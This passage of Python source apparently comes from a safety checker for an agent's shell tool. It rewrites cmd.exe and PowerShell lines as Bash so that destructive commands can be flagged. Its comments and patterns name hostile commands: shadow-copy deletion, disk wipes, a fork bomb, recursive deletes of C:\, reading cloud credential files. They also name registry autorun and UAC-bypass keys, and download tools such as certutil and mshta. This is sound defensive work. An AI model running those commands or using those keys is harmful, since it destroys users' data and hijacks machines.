        # (cmd /c LINE, vssadmin delete shadows, reg delete HKLM\\...: read as cmd.exe reads them)
        # PowerShell's own redirections of the program's output stay writes (cmd /c dir >
        # C:\\x, probe round 29: the > was a word of cmd's line), and what a (...) or $(...)
        # argument runs, runs before the program does (powershell -c echo $(calc))
        args, rd = _native_redirs(toks[1:], depth)
        inner_ps = base.lower() in ("powershell", "pwsh")
        # (powershell -c Get-Content $env:USERPROFILE\.aws\credentials: the inner shell
        # reads the variable as the outer one would, never as cmd.exe's %USERPROFILE%)
        # (powershell -Command "Remove-Item -Recurse -Force $env:USERPROFILE": the outer shell puts
        # the variable's value into the code the inner one runs; read with the variable in it, and
        # never allowed, as its value may be code; probe round 32, windows32)
        # (powershell -c $cmd: the value is the code; a place variable, $env:USERPROFILE\x, is not)
        loose = inner_ps and any(t[0] == "v" and (" " in t[1] or "(" in t[1] or "$" in _INNER_PLACE.sub(
            "", t[1])) for t in args)
        argv = [t[1] if inner_ps and t[0] == "v" and (loose or (" " not in t[1] and "(" not in t[1]))
                else _cmd_arg(t, len(args) > 1 and base.lower() == "cmd") for t in args if t != ("op", ",")]
        # (… | cmd: "cmd", read by the Bash analysis with what flows in)
        got = windows_program([base] + argv, depth, piped=base.lower() == "cmd")
        if got is not None and loose:
            got = "{ " + got + "; " + UNKNOWN + "; }"
        if got is not None:
            runs = [to_bash(t[1], depth + 1) for t in args if t[0] in ("sub", "paren", "arr")]
            if runs:
                return "{ " + "; ".join(': "$(' + r + ')"' for r in runs) + "; " + got + rd + "; }"
            return got + rd
    # (npm run build 2>&1, dotnet build > build.log: PowerShell's redirections of the
    # program's output, read as Bash's, as a Windows program's are)
    args, rd = _native_redirs(toks[1:], depth)
    named_words = []
    for t in args:
        if t[0] == "p":
            named_words.append(shlex.quote(t[1]))
        elif t[0] == "op":
            if t[1] == ",":
                continue
            raise _Unknown
        else:
            named_words.append(_word(t, depth))
    return " ".join([shlex.quote(prog if "/" in prog else base)] + named_words) + rd


# --- cmd.exe and Windows' own programs -----------------------------------------------------------

# what stands for a disk wiped (format C:, cipher /w, diskpart /s, vssadmin delete shadows): the
# Bash analysis denies it in every mode
DISK_WIPE = "mkfs /dev/sda"
_TABLE_INSTALLED = "crontab - < /dev/null"   # (a command kept to run later, read in the line: a task, a service)
_FORK_BOMB = ":(){ :|:& };:"
# Windows programs whose command line is read here (cmd.exe's built-ins that reach the file
# system and the system's tools that destroy, run or fetch something); the Bash analysis
# passes them here too (Git Bash, WSL and an agent's cmd tool run them)
WINDOWS_PROGRAMS = frozenset({
    "cmd", "del", "erase", "rd", "format", "cipher", "diskpart", "vssadmin", "wmic", "bcdedit", "reg", "takeown",
    "icacls", "cacls", "shutdown", "schtasks", "sc", "certutil", "bitsadmin", "mshta", "rundll32", "regsvr32",
    "msiexec", "wbadmin", "fsutil", "wevtutil", "robocopy", "xcopy", "powershell", "pwsh",
    "forfiles", "conhost", "pcalua", "scriptrunner", "runas", "psexec", "psexec64", "paexec", "hh", "cmstp",
    "winrs", "mklink", "setx", "findstr"})
# %VARIABLE%s that name a place (cmd.exe's spelling of $env:)
_CMD_VAR = re.compile(r"%([^%\s]+)%")
_CMD_SWITCHES = re.compile(r"(?:/[A-Za-z])+")   # (del's /s /q /f /a, one by one or run together: /s/q)
_CMD_SPLIT = re.compile(r'"[^"]*"?|\^.|&&|\|\||[&|()\n]|[^"^&|()\n]+', re.S)
# (a redirection outside quotes ends the word before it: echo rd /s /q C:\> x.bat, dir>out.txt
# wrote to x.bat, out.txt; a handle's digit counts only at a word's start; probe round 36)
_CMD_WORD = re.compile(r'(?<!\S)[12]?>>?(?:&\d)?|>>?(?:&\d)?|<|(?:"[^"]*"?|[^\s"<>]+)+')
_CMD_REDIR = re.compile(r"^(?:[12]?>>?|<)(.*)$")
_DRIVE = re.compile(r"^[A-Za-z]:\\?$")
_DRIVE_RELATIVE = re.compile(r"^[A-Za-z]:(?![\\/])")
# registry keys whose change takes the machine over or breaks it: a hive's root, the autoruns,
# the services, the policies, the logon and debugger hooks
_HIVE_ROOT = re.compile(r"(?i)^(?:hklm|hkey_local_machine|hku|hkey_users|hkcr|hkey_classes_root|hkcc|"
                        r"hkey_current_config)(?::)?(?:\\|$|(?=[a-z]))")
_CRITICAL_KEY = re.compile(r"(?i)\\(?:run|runonce|runservices|winlogon|services|policies|image file execution "
                           r"options|shell folders|user shell folders|explorer\\startup|appinit_dlls|lsa"
                           # (probe round 36, windows36) the user's own autostart points: cmd.exe's
                           # AutoRun, a file class's or protocol's open command (ms-settings,
                           # exefile: the UAC bypass), a COM class's server (COM hijack), Active
                           # Setup, the Windows NT Load/Run values, SilentProcessExit's monitor
                           r"|command processor|shell\\[^\\]+\\command|inprocserver32|localserver32|treatas"
                           r"|active setup\\installed components|windows nt\\currentversion\\windows"
                           r"|silentprocessexit|office test)(?:\\|$)")
# a value whose setting is an autostart wherever its key is (HKCU\Environment's logon script)
_CRITICAL_VALUE = frozenset({"userinitmprlogonscript"})
_HKCU_TOP = re.compile(r"(?i)^(?:hkcu|hkey_current_user)(?::)?(?:\\(?:software|system|environment)?\\?)?$")


# the home spelled by its parts: %HOMEDRIVE%%HOMEPATH%, C:\Users\%USERNAME% (probe round 31)
_CMD_DRIVE_PART = r"(?:%homedrive%|%systemdrive%|[a-z]:)"
_CMD_HOME_PARTS = re.compile(r"(?i)^(?:%s?%%homepath%%|%s[\\/]+users[\\/]+%%username%%)(?=$|[\\/])"
                             % (_CMD_DRIVE_PART, _CMD_DRIVE_PART))


def _cmd_path(w: str) -> str:
    """A cmd.exe word as a Bash word: %VARIABLES% that name places, Windows paths."""
    w = _CMD_HOME_PARTS.sub("%USERPROFILE%", w, count=1)

    def var(m: re.Match) -> str:
        name = m.group(1).lower()
        if name in _CMD_DIRS:
            return "\x01" + _CMD_DIRS[name] + "\x01"
        return "\x02" + m.group(1) + "\x02"
    v = _CMD_VAR.sub(var, w)
    if "\x01" not in v and "\x02" not in v:
        if "%" in v or "!" in v:
            return '"$POWERSHELL_VALUE"'   # (%x:~0,3%, %~dp0, !x!: known at run time)
        if _DRIVE_RELATIVE.match(v):
            # (C:Windows, as Bash leaves C:\\Windows: the drive's current directory, taken
            # for its root)
            v = v[:2] + "\\" + v[2:]
        return _bare(v)
    if "\x02" in v:
        m = re.fullmatch(r"\x02([A-Za-z_][A-Za-z0-9_]*)\x02", v)
        return f'"${m.group(1)}"' if m else '"$POWERSHELL_VALUE"'
    v = v.replace("\x01", "")
    if v.startswith("~"):
        rest = v[1:].replace("\\", "/")
        return "~" + (shlex.quote(rest) if rest else "")
    return shlex.quote(posix_spelling(v, _CWD_DRIVE.get()) if "\\" in v else v)


def _cmd_words(text: str) -> list[str]:
    return [w for w in _CMD_WORD.findall(text)]


def _unquote(w: str) -> str:
    return w.replace('"', "")


# a variable's value as cmd.exe expands it: %x%, !x! (delayed expansion), %x:~start,length%
# (a substring, negative from the end), %x:old=new% (a replacement, case ignored, *old up to
# its first match); probe round 31
_CMD_EXPANSION = re.compile(r"%%|([%!])([A-Za-z_][\w]*)(?::(?:~(-?\d+)(?:,(-?\d+))?|([^%!=]+)=([^%!]*)))?\1")


def _cmd_expand(text: str, variables: dict[str, str]) -> str:
    def one(m: re.Match) -> str:
        if m.group(0) == "%%":
            return "%%"   # (an escaped %, left for CALL's second expansion)
        value = variables.get(m.group(2).lower())
        if value is None:
            return m.group(0)
        if m.group(3) is not None:
            start = int(m.group(3))
            start = max(0, len(value) + start) if start < 0 else start
            value = value[start:]
            if m.group(4) is not None:
                n = int(m.group(4))
                value = value[:n] if n >= 0 else value[:max(0, len(value) + n)]
        elif m.group(5) is not None:
            old, new = m.group(5), m.group(6)
            if old.startswith("*"):
                k = value.lower().find(old[1:].lower()) if old[1:] else -1
                value = new + value[k + len(old) - 1:] if k >= 0 else value
            else:
                value = re.sub(re.escape(old), lambda _: new, value, flags=re.I)
        return value
    out = _CMD_EXPANSION.sub(one, text)
    return out if len(out) <= _MAX_LEN else text   # (set x=%x%%x% again and again: not grown past a line)


def cmd_to_bash(line: str, depth: int = 0, variables: dict[str, str] | None = None) -> str:
    """A cmd.exe command line (cmd /c LINE, a cmd tool's command) as the Bash it stands for:
    its statements (& && || | and parentheses), ^ escapes, %VARIABLES% (those SET earlier
    on the line too), redirections; del/erase/rd/rmdir /s are recursive deletes, type/more
    reads, dir lists, copy/xcopy/robocopy/move copy and move, start runs a program in the
    background, for /l and goto loops that start programs are fork bombs; Windows' own
    programs are read by windows_program; anything else is a program of that name."""
    if depth > _MAX_DEPTH or len(line) > _MAX_LEN:
        return UNKNOWN
    variables = {} if variables is None else variables
    labels = set(m.lower() for m in re.findall(r"(?m)^\s*:(\w+)", line))
    if labels and re.search(r"(?i)\bgoto\s+:?(\w+)", line) and re.search(r"(?i)(?:^|[\s&|(])(?:start|call)\b|%0",
                                                                          line):
        return _FORK_BOMB   # (:a / start x / goto a: programs started without end)
    if re.search(r"(?i)%~?f?0\s*\|\s*%~?f?0|\bstart\b[^&|\n]*%~?f?0", line.replace("^", "")):
        return _FORK_BOMB   # (%0|%0, start %0: the batch file runs itself twice, without end)
    # (2>&1, >&2: a descriptor's copy, no statement's end)
    toks = [t.replace("\x03", "&") for t in _CMD_SPLIT.findall(re.sub(r"([0-9]?>)&([0-9])", "\\1\x03\\2", line))]
    text, _ = _cmd_sequence(toks, 0, depth, variables, nested=False)
    return text or "true"


def _cmd_sequence(toks: list[str], i: int, depth: int, variables: dict[str, str],
                  nested: bool = True) -> tuple[str, int]:
    """Statements up to the parenthesis that closes a group (or the end): (Bash text,
    next index). A parenthesis that closes nothing is text, as cmd.exe reads it."""
    out: list[str] = []
    stmt: list[str] = []
    pipe: list[str] = []
    open_in_text = 0

    def flush(op: str) -> None:
        text = "".join(stmt).strip()
        stmt.clear()
        if text and pipe and pipe[-1].startswith("{ ") and re.match(r"(?:[12]?>|<)", text):
            # (probe round 37, pwsh37) a group's redirection, (echo del /s /q C:\ & echo x)> x.bat:
            # the group's output is written there, as echo ... > x.bat's is (it was a statement
            # of its own, the group piped into it, and x.bat's text not seen)
            got = _cmd_statement(text, depth, variables, piped=False)
            if got.startswith("true "):
                pipe[-1] += got[4:]
                text = ""
        if text:
            pipe.append(_cmd_statement(text, depth, variables, piped=bool(pipe)))
        if op != "|" and pipe:
            out.append(" | ".join(pipe))
            pipe.clear()
            out.append({"&&": "&&", "||": "||"}.get(op, ";"))

    while i < len(toks):
        tok = toks[i]
        i += 1
        if tok.startswith("^"):
            stmt.append(tok[1:] if tok[1:] != "\n" else "")
            continue
        if tok == "(":
            head = "".join(stmt)
            if re.search(r"(?i)^\s*@?for\b.*\bin\s*$", head, re.S) or re.search(r"(?i)^\s*@?for\b.*\bdo\s*$", head, re.S):
                # (for's set and its body in parentheses belong to the for)
                level, k = 1, i
                while k < len(toks) and level:
                    level += toks[k] == "("
                    level -= toks[k] == ")"
                    k += 1
                stmt.append("(" + "".join(toks[i:k]))
                i = k
                continue
            if "".join(stmt).strip() and not re.search(r"(?i)^\s*@?if\b|\belse\s*$", head):
                stmt.append(tok)   # (echo (x): a parenthesis inside a statement's words)
                open_in_text += 1
                continue
            inner, i = _cmd_sequence(toks, i, depth, variables)
            cond = "".join(stmt).strip()
            stmt.clear()
            if cond and pipe:
                out.append(" | ".join(pipe))
                pipe.clear()
                out.append(";")
            if cond and cond.lower() != "else":
                # if COND ( ... ) else ( ... ): each branch may run
                out.append(_cmd_statement(cond + " true", depth, variables, piped=False))
                out.append(";")
            pipe.append("{ " + (inner or "true") + "; }")
            continue
        if tok == ")":
            if open_in_text or not nested:
                open_in_text = max(0, open_in_text - 1)
                stmt.append(tok)
                continue
            break
        if tok in ("&", "&&", "||", "\n"):
            flush(tok)
        elif tok == "|":
            flush("|")
        else:
            stmt.append(tok)
    flush(";")
    while out and out[-1] in (";", "&&", "||"):
        out.pop()
    return " ".join(out), i


def _cmd_statement(text: str, depth: int, variables: dict[str, str], piped: bool) -> str:
    text = text.lstrip("@ \t")
    if not text or text.startswith((":", "rem ", "REM ")) or text.lower() == "rem":
        return "true"
    # SET x=value, then %x% on the line: the value
    m = re.match(r'(?i)^set\s+"?([A-Za-z_][\w]*)=([^"]*)"?\s*$', text)
    if m:
        variables[m.group(1).lower()] = _cmd_expand(m.group(2), variables)
        return "true"
    if variables:
        text = _cmd_expand(text, variables)
    words = _cmd_words(text)
    redirs: list[str] = []
    args: list[str] = []
    i = 0
    while i < len(words):
        w = words[i]
        m = _CMD_REDIR.match(w)
        if m and not w.startswith(('"',)):
            op = w[: len(w) - len(m.group(1))]
            target = m.group(1)
            if target.startswith("&"):
                i += 1
                continue
            if not target:
                if i + 1 >= len(words):
                    return UNKNOWN
                target = words[i + 1]
                i += 1
            t = _unquote(target)
            redirs.append(op + " " + ("/dev/null" if t.lower() == "nul" else _cmd_path(t)))
            i += 1
            continue
        args.append(w)
        i += 1
    rd = (" " + " ".join(redirs)) if redirs else ""
    if not args:
        return "true" + rd
    verb = _unquote(args[0]).lower()
    glued = _CMD_GLUED_SWITCH.match(verb)
    if glued:
        # (rd/s/q C:\, del/f/s/q x, dir/s: cmd.exe ends an internal command's name at the
        # first "/"; probe round 35, published9)
        verb = glued.group(1)
        args = [verb, glued.group(2)] + args[1:]
    if "%" in verb or "\\" in verb or "/" in verb:
        # (%COMSPEC%, %windir%\system32\cmd.exe, C:\Windows\System32\WindowsPowerShell\v1.0\
        # powershell.exe: Windows' own program by its path is that program; probe round 31)
        base = re.split(r"[\\/]", _CMD_VAR.sub(lambda v: _CMD_DIRS.get(v.group(1).lower(), v.group(0)), verb))[-1]
        if base.removesuffix(".exe").removesuffix(".com") in WINDOWS_PROGRAMS - {"del", "erase", "rd"}:
            verb = base
    if verb.endswith((".exe", ".com")):
        verb = verb[:-4]
    rest = args[1:]
    opts = {"/" + o for a in rest if a.startswith("/") for o in _unquote(a).lower().split("/") if o}   # (/s/q)
    plain = [_unquote(a) for a in rest if not a.startswith("/")]
    paths = " ".join(_cmd_path(p) for p in plain)

    if verb == "%0":
        return _FORK_BOMB if piped or "|" in text else UNKNOWN
    if verb == "if":
        # IF [/I] [NOT] EXIST x | DEFINED x | ERRORLEVEL n | a==b | a op b  COMMAND
        k = 1
        while k < len(args) and args[k].lower() in ("/i", "not"):
            k += 1
        if k < len(args) and args[k].lower() in ("exist", "defined", "errorlevel", "cmdextversion"):
            k += 2
        elif k < len(args) and "==" in args[k]:
            k += 1 if not args[k].endswith("==") else 2
        elif k + 2 < len(args) and args[k + 1].lower() in ("equ", "neq", "lss", "leq", "gtr", "geq"):
            k += 3
        else:
            return UNKNOWN
        return _cmd_statement(" ".join(args[k:]), depth, variables, piped) + rd
    if verb == "for":
        m = re.search(r"(?i)\bin\s*\(([^)]*)\)\s*do\s+(.*)$", text, re.S)
        if not m:
            return UNKNOWN
        spec = m.group(1)
        walk = _for_walk(text[:m.start()], spec, m.group(2), opts, depth, variables) if "/r" in opts else None
        if walk is not None:
            return walk + rd
        # (a FOR inside a FOR's body is read once, its variable unknown: the work stays linear)
        items = _for_items(text[:m.start()], spec, opts) if depth <= 1 and not re.search(
            r"(?i)(?:^|[\s&|(])for\s", m.group(2)) else None
        text_body = m.group(2)
        lv = re.search(r"(%%?)([A-Za-z])\s*$", text[:m.start()]) if "/f" in opts and "'" in spec else None
        if lv is not None:
            # ((probe round 51, pwsh51) FOR /F %i IN ('dir /b C:\') DO rd /s /q C:\%i: a name the command
            # lists, under the folder the body puts it in: any child of that folder, C:\*)
            text_body = re.sub(r"(?<=[\\/])%%?~?" + lv.group(2) + r"(?![A-Za-z0-9_])", "*", text_body)
        body = cmd_to_bash(text_body, depth + 1, dict(variables)) if not items else ""
        if items:
            # (for %i in (C:\) do rd /s /q %i, for /f %i in ("rd") do %i ...: the body once
            # for each item of a set written out, its variable replaced; probe round 31)
            var = items.pop(0)
            body = "; ".join(cmd_to_bash(re.sub(r"%%?~?" + re.escape(var) + r"(?![A-Za-z0-9_])",
                                                 lambda _, it=it: it, m.group(2)),
                                         depth + 1, dict(variables)) for it in items)
        endless = "/l" in opts and (not spec.strip() or re.fullmatch(r"\s*-?\d+\s*[, ]\s*0\s*[, ]\s*-?\d+\s*", spec))
        if endless and re.search(r"(?i)(?:^|\s)(?:start|cmd|powershell|pwsh)\b|%0", m.group(2)):
            return _FORK_BOMB
        inner = ""
        fm = re.match(r"^\s*'(.*)'\s*$", spec) if "/f" in opts else None
        if fm:
            inner = cmd_to_bash(fm.group(1), depth + 1, dict(variables)) + "; "   # (for /f in ('cmd'): it runs)
        return f"{inner}for _ in 1; do {body}; done" + rd
    if verb in ("del", "erase"):
        return ("rm -r -f -- " if "/s" in opts else "rm -f -- ") + (paths or '"$POWERSHELL_VALUE"') + rd
    if verb in ("rd", "rmdir"):
        return ("rm -r -f -- " if "/s" in opts else "rmdir -- ") + (paths or '"$POWERSHELL_VALUE"') + rd
    if verb in ("type", "more"):
        return ("cat -- " + paths if paths else "cat") + rd
    if verb == "dir":
        return ("ls -a" + (" -R" if "/s" in opts else "") + " -- " + paths).rstrip(" -") + rd
    if verb in ("md", "mkdir"):
        return "mkdir -p -- " + paths + rd
    if verb in ("copy", "xcopy"):
        if len(plain) < 2:
            return ("cp -r -- " if verb == "xcopy" else "cp -- ") + paths + " ." + rd
        return ("cp -r -- " if verb == "xcopy" and ("/s" in opts or "/e" in opts) else "cp -- ") + paths + rd
    if verb in ("move", "ren", "rename"):
        return "mv -- " + paths + rd
    if verb in ("echo", "echo."):
        return "echo " + " ".join(_cmd_path(a) if "%" in a else shlex.quote(a) for a in rest) + rd
    if verb in ("cd", "chdir", "pushd"):
        target = [p for p in plain]
        return ("cd -- " + _cmd_path(" ".join(target)) if target else "pwd") + rd
    if verb in ("popd", "cls", "title", "color", "ver", "vol", "pause", "setlocal", "endlocal", "prompt", "exit",
                "goto", "chcp", "verify"):
        return "true" + rd
    if verb == "set":
        return ("env" if not rest else UNKNOWN) + rd   # (SET alone prints the environment; /a /p compute or read)
    if verb == "where":
        return "which -- " + " ".join(shlex.quote(p) for p in plain) + rd
    if verb == "call":
        if not rest or rest[0].startswith(":"):
            return UNKNOWN
        # (CALL expands the line once more: call set y=%%x%%, call %%y%%)
        again = " ".join(rest).replace("%%", "%")
        return _cmd_statement(_cmd_expand(again, variables) if variables else again, depth, variables, piped) + rd
    if verb == "start":
        # START ["title"] [/B /WAIT /MIN /D dir ...] program args: runs it beside this one
        k = 1
        if k < len(args) and args[k].startswith('"'):
            k += 1
        while k < len(args) and args[k].startswith("/"):
            k += 2 if args[k].lower() == "/d" else 1
        if k >= len(args):
            return "{ cmd; } & :"
        prog = _cmd_statement(" ".join(args[k:]), depth, variables, piped)
        wait = "/wait" in {a.lower() for a in args[1:k]}
        return ("( " + prog + " )" if wait else "{ " + prog + "; } & :") + rd
    if verb in WINDOWS_PROGRAMS or verb in ("rmdir",):
        got = windows_program([verb] + [_unquote(a) for a in rest], depth, piped)
        if got is not None:
            return got + rd
    if verb.endswith((".bat", ".cmd", ".ps1", ".vbs", ".js")):
        return "./run-script " + shlex.quote(posix_spelling(verb) if "\\" in verb else verb) + rd
    return " ".join([_cmd_path(_unquote(args[0]))] + [_cmd_path(_unquote(a)) if not a.startswith("/")
                                                       else shlex.quote(_unquote(a)) for a in rest]) + rd


# an internal command of cmd.exe with its switches run on (rd/s/q, del/q, dir/s)
_CMD_GLUED_SWITCH = re.compile(r"(?i)^(rd|rmdir|del|erase|dir|md|mkdir|copy|xcopy|move|type|cd|chdir|pushd)(/\S+)$")
# cmd.exe's switches run together with its /C, /K or /R and the line (/q/c"rd ...", /crd)
_CMD_GLUED = re.compile(r'(?is)^(?:/[abd-jl-qs-z](?::[^/\s"]*)?)*/[ckr](?!:)(.*)$')


def _cmd_kept(switches: str) -> str:
    """(probe round 49, pwsh49) cmd /K LINE runs the line, then stays a shell reading what it is
    given (cmd alone, as sudo sh is; Start-Process cmd -Verb RunAs -ArgumentList '/k' was sudo true)."""
    return "; " + UNKNOWN if switches.lower().rstrip(":").endswith("/k") else ""


def _each_file(root: str, mask: str | None, recurse: bool, command_bash: str, file_word: str, depth: int) -> str:
    """find ROOT -exec sh -c SCRIPT sh {} ';': a command run on each file of a directory
    (of its tree when ``recurse``), the file being FILE_WORD in COMMAND_BASH (forfiles' @path,
    FOR /R's %f), so that find's analysis of what such a script does to each file holds."""
    script = re.sub(r"'?" + re.escape(file_word) + r"'?", '"$1"', command_bash)
    tests = "" if recurse else " -maxdepth 1"
    if mask and mask not in ("*", "*.*"):
        tests += " -iname " + shlex.quote(mask)
    return f"find {root}{tests} -exec sh -c {shlex.quote(script)} sh {{}} ';'"


def _for_walk(head: str, spec: str, body: str, opts: set[str], depth: int, variables: dict[str, str]) -> str | None:
    """FOR /R [ROOT] %f IN (SET) DO BODY (probe round 35, published9): BODY run on each
    file of ROOT's tree that SET matches, as find ROOT -exec does (_each_file)."""
    hm = re.search(r'(?i)/r\s+(?:("[^"]*"|%[A-Za-z_]\w*%\S*|[^\s%/]\S*)\s+)?(%%?)([A-Za-z])\s*$', head)
    if hm is None or depth > 2:
        return None
    root = _cmd_path(_unquote(hm.group(1))) if hm.group(1) else "."
    var = hm.group(3)
    marker = "FORFILE7f3a"
    body = re.sub(r"%%?(?:~[A-Za-z$:]*?)?" + re.escape(var) + r"(?![A-Za-z0-9_])", marker, body)
    masks = spec.split()
    return _each_file(root, masks[0] if len(masks) == 1 else None, True,
                      cmd_to_bash(body, depth + 1, dict(variables)), marker, depth)


def _for_items(head: str, spec: str, opts: set[str]) -> list[str] | None:
    """FOR's variable letter then the items its set holds when written out (a plain or /D
    set's words, /F's "string" read as its first word and whole), or None."""
    v = re.search(r"(%%?)([A-Za-z])\s*$", head)
    if not v or "/r" in opts or "/l" in opts:
        return None
    if "/f" in opts:
        fm = re.fullmatch(r'\s*"([^"]*)"\s*', spec)
        if not fm or re.search(r"(?i)usebackq", head):
            return None
        whole = fm.group(1).strip()
        first = whole.split(None, 1)[0] if whole else ""
        return [v.group(2)] + ([first] if first == whole else [first, whole])
    words = [w.strip('"') for w in re.findall(r'"[^"]*"|[^\s,;=]+', spec)]
    if not words or len(words) > 8:
        return None   # (nested FORs multiply: 8 items, three deep at most)
    return [v.group(2)] + words


def _win_opt(args: list[str], *names: str) -> str | None:
    """The value of /name:value or /name value (case ignored)."""
    for k, a in enumerate(args):
        low = a.lower()
        for n in names:
            if low.startswith(n + ":"):
                return a[len(n) + 1:]
            if low == n and k + 1 < len(args):
                return args[k + 1]
    return None


_WINDOWS_SHELLS = frozenset({"cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh", "pwsh.exe"})


def windows_shell_line(line: str) -> bool:
    """Does this command line start Windows' own shell (cmd /c ..., cmd.exe /k ...,
    powershell -c ..., "C:\\Windows\\System32\\cmd.exe" /c ...)? A tool that types such a
    line runs it with Windows' quoting (C:\\ ends a word there, a Bash reading finds a
    backslash escaping the end of the line): read as PowerShell reads it (probe round 29)."""
    s = line.lstrip()
    if not s:
        return False
    if s[0] == '"':
        end = s.find('"', 1)
        first = s[1:end] if end > 0 else s[1:]
    else:
        first = s.split(None, 1)[0]
    base = first.replace("\\", "/").rsplit("/", 1)[-1].casefold()
    return base in _WINDOWS_SHELLS


def windows_line_to_bash(line: str) -> str:
    """The Bash a line typed to Windows' shell stands for (windows_shell_line): read as
    PowerShell reads it, a quoted program path first run as the program (as cmd.exe and
    CreateProcess run "C:\\Windows\\System32\\cmd.exe" /c ..., where PowerShell would
    see a string)."""
    s = line.lstrip()
    return to_bash("& " + s if s.startswith('"') else s)


# (probe round 35, left35) the command lines a Windows script host's code or an MSBuild
# inline task runs: WScript.Shell's .Run / .Exec, Shell.Application's ShellExecute(prog,
# args), .NET's Process.Start(prog, args); a string in VBScript ("" a quote) or in JScript
# and C# (backslash escapes, @"..." verbatim)
_HOST_RUN_VBS = re.compile(r'(?i)(?:\.\s*(?:run|exec)|\bshellexecute|\bprocess\s*\.\s*start)\s*\(?\s*"((?:[^"\n]|"")*)"'
                           r'(?:\s*,\s*"((?:[^"\n]|"")*)")?')
_HOST_RUN_C = re.compile(r'(?i)(?:\.\s*(?:run|exec)|\bshellexecute|\bprocess\s*\.\s*start)\s*\(\s*'
                         r'(@?"(?:[^"\\\n]|\\.|"")*"|\'(?:[^\'\\\n]|\\.)*\')'
                         r'(?:\s*,\s*(@?"(?:[^"\\\n]|\\.|"")*"|\'(?:[^\'\\\n]|\\.)*\'))?')


def _c_string(lit: str) -> str:
    if lit.startswith("@"):
        return lit[2:-1].replace('""', '"')
    return re.sub(r"\\(.)", lambda m: {"n": " ", "t": " "}.get(m.group(1), m.group(1)), lit[1:-1])


def script_host_commands(code: str, vbs: bool, depth: int = 0) -> str:
    """(probe round 35, left35) The Bash for the command lines a script host's VBScript
    (``vbs``) or JScript, or an MSBuild inline task's C#, runs (.Run, .Exec, ShellExecute,
    Process.Start), each as cmd.exe reads it; "" when none is written out."""
    out = []
    code = code[:100_000]
    if vbs:
        # (a string one level down, Execute("...Run ""cmd /c ..."""), has its quotes doubled)
        for text in (code, code.replace('""', '"')) if '""' in code else (code,):
            for m in _HOST_RUN_VBS.finditer(text):
                line = m.group(1).replace('""', '"') + (" " + m.group(2).replace('""', '"') if m.group(2) else "")
                if line.strip() and "( " + cmd_to_bash(line, depth + 1) + " )" not in out:
                    out.append("( " + cmd_to_bash(line, depth + 1) + " )")
    else:
        for m in _HOST_RUN_C.finditer(code):
            line = _c_string(m.group(1)) + (" " + _c_string(m.group(2)) if m.group(2) else "")
            out.append("( " + cmd_to_bash(line, depth + 1) + " )")
    return "; ".join(out[:16])


_FINDSTR_SWITCHES = {"b": "", "e": "", "l": "-F", "r": "-E", "s": "-r", "i": "-i", "x": "-x", "v": "-v", "n": "-n",
                     "m": "-l", "o": "-b", "p": "", "offline": "", "c": None, "g": None}


def _findstr(args: list[str]) -> str | None:
    """(probe round 42, pwshbenign42) findstr [/s /i /n /c:TEXT /g:FILE ...] TEXT FILES: grep, the
    files (and a /g: file of patterns) read; /f:, /d:, /a: and anything else: None (unread)."""
    opts: list[str] = []
    pats: list[str] = []
    plain: list[str] = []
    for a in args:
        if a.startswith("/") and len(a) > 1 and not plain[:0] and re.match(r"/[A-Za-z]", a):
            for sw in re.split(r"(?=/)", a)[1:] if not re.match(r"(?i)/[cg]:", a) else [a]:
                key, _, val = sw[1:].partition(":")
                key = key.lower()
                if key not in _FINDSTR_SWITCHES and not val and all(
                        c in _FINDSTR_SWITCHES and c not in "cg" for c in key):
                    opts += [_FINDSTR_SWITCHES[c] for c in key if _FINDSTR_SWITCHES[c]]   # (/si: /s /i)
                    continue
                if key not in _FINDSTR_SWITCHES:
                    return None
                if key == "c":
                    pats.append(val.strip('"'))
                elif key == "g":
                    opts += ["-f", _cmd_path(val.strip('"'))]
                elif _FINDSTR_SWITCHES[key]:
                    opts.append(_FINDSTR_SWITCHES[key])
        else:
            plain.append(a)
    if not pats and not any(o == "-f" for o in opts):
        if not plain:
            return None
        pats = plain[0].strip('"').split() or [""]
        plain = plain[1:]
    return " ".join(["grep"] + opts + [x for q in pats for x in ("-e", shlex.quote(q))] + ["--"]
                    + [_cmd_path(x) for x in plain])


def windows_program(argv: list[str], depth: int = 0, piped: bool = False) -> str | None:
    """A Windows program's command line as the Bash that does the same (None: nothing to
    say, an unknown program): format of a drive, cipher /w, diskpart with a script,
    vssadmin/wmic deleting shadow copies, wbadmin deleting backups are disk wipes; bcdedit's
    changes are writes of the boot files; reg's changes of a hive, the autoruns or the
    services are writes of the hive files; takeown/icacls /t are recursive chown/chmod;
    shutdown is shutdown; certutil -urlcache, bitsadmin /transfer fetch; mshta, regsvr32
    /i:, msiexec /i given a URL run what they fetch; the command a scheduled task, a
    service or a wmic process runs is code."""
    if not argv:
        return None
    name = argv[0].lower()
    if name.endswith((".exe", ".com")):
        name = name[:-4]
    args = argv[1:]
    low = [a.lower() for a in args]
    flags = {a for a in low if a.startswith(("/", "-"))} | {"/" + o for a in low if a.startswith("/")
                                                            for o in a.split("/") if o}
    plain = [a for a in args if not a.startswith(("/", "-"))]

    def p(x: str) -> str:
        return _cmd_path(x)

    if name == "findstr":
        return _findstr(args)
    if name in ("del", "erase", "rd", "rmdir"):
        if name == "rmdir" and "/s" not in flags:
            return None
        return ("rm -r -f -- " if "/s" in flags else "rm -f -- ") + " ".join(p(x) for x in plain)
    if name == "cmd":
        for k, a in enumerate(low):
            if a in ("/c", "/k", "/r") or (_CMD_GLUED.match(a) and not _CMD_GLUED.match(a).group(1)):
                line = " ".join(f'"{x}"' if " " in x and len(args) > k + 2 and '"' not in x else x
                                for x in args[k + 1:])
                if len(line) > 1 and line[0] == '"' and line[-1] == '"':
                    line = line[1:-1]   # (cmd /c "LINE": cmd strips the outer quotes)
                return "( " + cmd_to_bash(line, depth + 1) + " )" + _cmd_kept(a)
            m = _CMD_GLUED.match(args[k])
            if m:
                # (cmd "/c rd /s /q C:\\", cmd /crd, cmd /q/c"rd ...": cmd.exe takes what follows
                # /C, /K or /R as the line, a blank or not, after any other switches; probe round 31)
                line = " ".join([m.group(1)] + args[k + 1:]).strip()
                if len(line) > 1 and line[0] == '"' and line[-1] == '"' and line.count('"') == 2:
                    line = line[1:-1]
                return "( " + cmd_to_bash(line, depth + 1) + " )" + _cmd_kept(args[k][:len(args[k]) - len(m.group(1))])
        if piped:
            return "cmd"   # (… | cmd: a shell that runs the lines it reads; the Bash analysis reads them)
        return None if any(a.startswith("/") for a in low) else UNKNOWN
    if name in ("powershell", "pwsh"):
        kind, code = command_line(args)
        if kind == "code" and code is not None:
            whole = _WHOLE.set(code)   # (its own line: where _only_properties_read looks; round 42)
